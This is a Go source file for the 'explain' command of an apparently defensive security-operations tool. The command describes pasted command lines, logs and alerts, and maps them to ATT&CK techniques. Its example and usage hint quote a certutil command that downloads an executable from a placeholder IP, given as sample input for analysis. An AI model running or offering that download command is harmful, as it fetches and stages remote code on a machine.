package workflow

import (
	"context"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/security/explain"
	"github.com/casemate-ai/casemate/internal/security/intake"
	"github.com/casemate-ai/casemate/internal/security/page"
)

// maxExplain is how much is read to be explained.
const maxExplain = 8 << 20

// ExplainInput says what to explain.
type ExplainInput struct {
	Text []string `json:"text" arg:"" optional:"" name:"text" help:"Anything, in single quotes; or a file's name; nothing or - reads standard input."`
}

func explainEntry() Workflow {
	return entry(Workflow{
		Name: "explain", Group: GroupSOC,
		Summary: "Explain anything pasted: a command line, a log line, an alert, an id, a hash, a URL.",
		Help:    "Says what a text is, undoes its encodings, names the programs and options that it knows, and the ATT&CK techniques that it shows, each with the words that show it.",
		Example: "casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe'",
		Output:  explain.Explanation{},
	}, runExplain)
}

func runExplain(ctx context.Context, in *ExplainInput, env Env) (Result, error) {
	input, err := in.text(env.Stdin)
	if err != nil {
		return Result{}, err
	}
	if strings.TrimSpace(input) == "" {
		return Result{}, usage("explain needs something to explain",
			"try: casemate explain 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe', or casemate explain T1003.001")
	}
	rules, err := intake.LoadRules(nil, false)
	if err != nil {
		return Result{}, err
	}
	e, err := explain.Explain(ctx, input, explain.Options{Rules: rules.Engine})
	if err != nil {
		return Result{}, err
	}
	return Result{
		Value:    e,
		Text:     func(w io.Writer, o page.TerminalOptions) error { return explain.WriteText(w, e, o.Width, o.Color) },
		Markdown: func(w io.Writer) error { return explain.WriteMarkdown(w, e) },
	}, nil
}

// text returns the text to explain: the arguments, a file that they name, or
// standard input.
func (in *ExplainInput) text(stdin io.Reader) (string, error) {
	if len(in.Text) == 0 || len(in.Text) == 1 && in.Text[0] == "-" {
		return readText(stdin, "standard input")
	}
	if len(in.Text) == 1 {
		if info, err := os.Stat(in.Text[0]); err == nil && info.Mode().IsRegular() {
			f, err := os.Open(in.Text[0])
			if err != nil {
				return "", fmt.Errorf("explain: %w", err)
			}
			defer f.Close()
			return readText(f, in.Text[0])
		}
	}
	return strings.Join(in.Text, " "), nil
}

func readText(r io.Reader, name string) (string, error) {
	b, err := io.ReadAll(io.LimitReader(r, maxExplain+1))
	if err != nil {
		return "", fmt.Errorf("read %s: %w", name, err)
	}
	if len(b) > maxExplain {
		return "", &casemate.Error{Code: casemate.CodeInput, Message: fmt.Sprintf("%s is over %d MiB", name, maxExplain>>20),
			Hint: "explain is for one thing at a time: cut it out of the file, or use casemate triage for logs"}
	}
	return string(b), nil
}
